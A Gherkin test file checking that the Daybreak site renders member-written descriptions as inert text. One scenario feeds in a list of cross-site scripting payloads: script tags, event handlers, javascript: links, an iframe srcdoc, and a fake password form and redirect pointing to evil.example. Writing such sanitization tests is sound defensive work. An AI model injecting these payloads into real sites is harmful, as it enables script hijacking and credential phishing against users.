Feature: Texts that cannot do harm

  Descriptions come from many hands, guests among them. Whatever they contain, a page shows words, headings and honest links: nothing
  runs, nothing is sent, nobody is led away.

  @CAT-24 @browser
  Scenario: What members wrote does nothing but stand there
    When they open the page "Guest Book"
    Then the page has the heading "Best first lines"
    And the page says "Bold of you to ask."
    And the page says "<script> between backticks is only text."
    And the page does not say "Sign in again"
    And "Here" cannot be pressed
    And "There" cannot be pressed
    And the tab is titled "Guest Book · Daybreak"

  @CAT-24 @API-07 @browser
  Scenario: Nothing that a text contains runs a script, sends a form or leads away
    Given the description of the page "About Daybreak" is:
      """
      This much is harmless.

      <script>document.title = 'taken over'</script>
      <img src=x onerror="document.title = 'taken over'">
      <svg/onload="document.title = 'taken over'">
      <svg><script href="data:text/javascript,document.title='taken over'"/></svg>

      <a href="javascript:document.title='taken over'">press</a> <a href="java
      script:document.title='taken over'">press</a> [press](javascript:alert(1)) ![picture](x" onerror="alert(1))

      > *A member* <script>document.title = 'taken over'</script>

      <iframe srcdoc="<script>parent.document.title = 'taken over'</script>"></iframe>
      <form action="https://evil.example"><input name=password><button>Sign in</button></form>
      <base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
      <object data="data:text/html,<script>alert(1)</script>"></object>
      <div style="position:fixed;inset:0" onmouseover="document.title = 'taken over'">x</div>
      <template><script>document.title = 'taken over'</script></template>
      <math><mtext><style><img src=x onerror="document.title = 'taken over'"></style></mtext></math>
      """
    When they open the page "About Daybreak"
    Then the page says "This much is harmless."
    And the page contains no active markup
    And the tab is titled "About Daybreak · Daybreak"

  @CAT-24 @browser
  Scenario: Links that do no harm are there, without the script that one of them came with
    When they open the page "Guest Book"
    Then the link "Lisbon" leads outside to "https://en.wikipedia.org/wiki/Lisbon"
    And the link "The 365" leads to the address "/365"
    And the link "Our old page" leads outside to "https://daybreak.example/"
    When they press "Our old page"
    Then the tab is titled "Guest Book · Daybreak"

  @CAT-24 @API-07 @browser
  Scenario Outline: A text that begins with <count> times "<mark>" takes nothing else from its page
    Given the description of the page "About Daybreak" is <count> times "<mark>", and then "welcome"
    When they open the page "About Daybreak"
    Then the page says "welcome"
    And the heading is "About Daybreak"
    And the tab is titled "About Daybreak · Daybreak"

    Examples:
      | mark | count |
      | >    | 5000  |
      | [    | 5000  |
      | **a  | 5000  |
